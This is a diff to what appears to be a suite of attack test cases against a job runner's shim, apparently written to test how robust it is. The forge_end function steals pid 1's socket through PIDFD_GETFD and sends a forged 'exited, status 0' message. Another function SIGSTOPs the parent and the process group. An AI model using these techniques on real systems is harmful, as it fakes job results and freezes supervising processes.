@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import ctypes
 import os
 import signal
@@ -71,11 +72,17 @@ def helper_program(pid: str) -> str:
 
 @attack
 def forge_end(pid: str) -> str:
-    """Take the socket that pid 1 tells the shim with, and tell an end that is none: SAY_EXITED, wait status 0 (jobrunner.h)."""
+    """Take the socket that pid 1 tells the shim with, and tell an end that is none: SAY_EXITED, wait status 0 (jobrunner.h).
+
+    A pid 1 that hears no more of the shim leaves, and takes us with it.
+    """
     pidfd = syscall(PIDFD_OPEN, int(pid), 0)
     channel = syscall(PIDFD_GETFD, pidfd, 0, 0)
-    socket.socket(fileno=channel).send(struct.pack("Ii", 4, 0))
     print("succeeded: told", flush=True)
+    with socket.socket(fileno=channel) as stolen:
+        stolen.send(struct.pack("Ii", 4, 0))
+        stolen.shutdown(socket.SHUT_RDWR)
+    time.sleep(600)
     os._exit(3)
 
 
@@ -124,8 +131,9 @@ def stop_everything() -> str:
     for _ in range(3):
         if os.fork() == 0:
             time.sleep(600)
+    with contextlib.suppress(PermissionError):
+        os.kill(os.getppid(), signal.SIGSTOP)
     print("ready", flush=True)
-    os.kill(os.getppid(), signal.SIGSTOP)
     os.kill(0, signal.SIGSTOP)
     time.sleep(600)
     return "went on"
